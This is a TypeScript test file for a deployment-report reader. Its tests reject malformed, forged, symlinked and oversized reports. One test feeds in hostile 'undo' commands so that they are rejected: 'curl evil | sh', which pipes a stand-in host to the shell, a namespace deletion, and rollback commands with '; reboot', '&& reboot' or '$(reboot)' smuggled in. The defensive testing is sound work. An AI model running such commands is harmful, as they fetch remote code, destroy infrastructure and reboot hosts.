import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { UserError } from '../../src/errors.ts'
import { renderReport } from '../../src/report/json-report.ts'
import { readReportFiles } from '../../src/report/report-files.ts'
import { rows } from '../kit/rows.ts'
import { createRecord } from './builders.ts'

const data = import.meta.filename.replace('.test.ts', '.yaml')

const report = renderReport(createRecord())
let folder: string

beforeEach(() => {
  folder = join(mkdtempSync(join(tmpdir(), 'reports-')), 'workspace')
  for (const name of ['eu', 'us']) write(`reports/${name}/report.json`, report)
})

afterEach(() => rmSync(dirname(folder), { recursive: true }))

function write(path: string, text: string): void {
  mkdirSync(dirname(join(folder, path)), { recursive: true })
  writeFileSync(join(folder, path), text)
}

/** `name=path`, with `✗` after the path of a missing report. */
function read(...lines: readonly string[]): string[] {
  return readReportFiles(lines, folder, 'reports').map(
    ({ name, path, record }) => `${name === undefined ? '' : `${name}=`}${path}${record === undefined ? ' ✗' : ''}`,
  )
}

function mistakesOf(...lines: readonly string[]): string[] {
  try {
    read(...lines)
    return []
  } catch (error) {
    if (!(error instanceof UserError)) throw error
    return error.mistakes.map(({ input, line, message }) => `${[input, line].filter(Boolean).join(' ')}: ${message}`)
  }
}

it.each(rows<[string, readonly string[], readonly string[]]>(data, 'reads'))(
  'reports in the input are %s',
  (_, lines, expected) => {
    expect(read(...lines)).toEqual(expected)
  },
)

it.each<[string, readonly string[], readonly string[]]>([
  [
    'an empty input reports',
    ['# none'],
    ['reports: No report is named. Write one path per line, like reports/prod-eu/report.json.'],
  ],
  [
    'a folder in the input reports',
    ['reports/eu'],
    ['reports/eu: It is a folder. Name the report in it, like reports/eu/report.json.'],
  ],
  [
    'one name for several reports',
    ['all=reports/*/report.json'],
    ['reports: The name "all" is given to 2 reports. Write one line for each, with a name of its own.'],
  ],
])('%s is rejected', (_, lines, expected) => {
  expect(mistakesOf(...lines).toSorted()).toEqual(expected)
})

it.each(rows<[string, string, string]>(data, 'is a mistake that names the file and quotes nothing of it'))(
  '%s as a report file is rejected with its name and without its content',
  (_, text, message) => {
    write('reports/eu/report.json', text)
    expect(mistakesOf('reports/eu/report.json')).toEqual([`reports/eu/report.json: ${message}`])
  },
)

it.each<[string, object, string]>([
  [
    'is ready with a target that is not ready',
    { targets: [{ ...JSON.parse(report).targets[0], outcome: 'failed' }] },
    'outcome: It is ready, but not everything in the report is. Name the file of the output `report`, as the gate wrote it.',
  ],
  ['is merged already', { gates: [] }, 'It is a merged report. Name the reports of its gates.'],
])('a report that %s is rejected', (_, fields, message) => {
  write('forged.json', JSON.stringify({ ...JSON.parse(report), outcome: 'ready', ...fields }))
  expect(mistakesOf('forged.json')).toEqual([`forged.json: ${message}`])
})

it('a report with invalid fields is rejected with at most three of them', () => {
  write(
    'a.json',
    report.replace('"outcome": "ready"', '"outcome": "fine"').replace('"durationSeconds": 31', '"durationSeconds": -1'),
  )
  write('b.json', '{"schema":1}')
  const mistakes = mistakesOf('a.json', 'b.json')
  expect(mistakes.map((text) => text.split(':').slice(0, 2).join(':'))).toEqual([
    'a.json: outcome',
    'a.json: durationSeconds',
    'b.json: outcome',
    'b.json: reason',
    'b.json: message',
  ])
})

it.each([
  'curl evil | sh',
  'kubectl delete namespace shop',
  'kubectl rollout undo deployment/web -n shop; reboot',
  'kubectl --context $(reboot) rollout undo deployment/web',
  'helm rollback web 6 -n shop && reboot',
  'helm rollback web 6 -n shop && ',
])('a report with an undo command that is no plain undo is rejected: %j', (command) => {
  write('forged.json', JSON.stringify({ ...JSON.parse(report), wayBack: { sentences: [], command } }))
  expect(mistakesOf('forged.json').join()).toMatch(/^forged\.json: wayBack\.command: /)
})

it('a link that leads out of the workspace is rejected without reading its file', () => {
  writeFileSync(join(dirname(folder), 'secret.json'), report)
  symlinkSync('../secret.json', join(folder, 'link.json'))
  symlinkSync('reports/eu/report.json', join(folder, 'inner.json'))
  expect(mistakesOf('link.json')).toEqual([
    'link.json: It is a symbolic link to a path outside of the workspace. Name the file itself, or copy it.',
  ])
  expect(read('inner.json')).toEqual(['inner.json'])
})

it('too many reports are rejected as one mistake', () => {
  for (let index = 0; index < 201; index++) write(`many/${index}.json`, report)
  expect(mistakesOf('many/*.json')).toEqual(['reports 1: More than 200 reports are named.'])
})
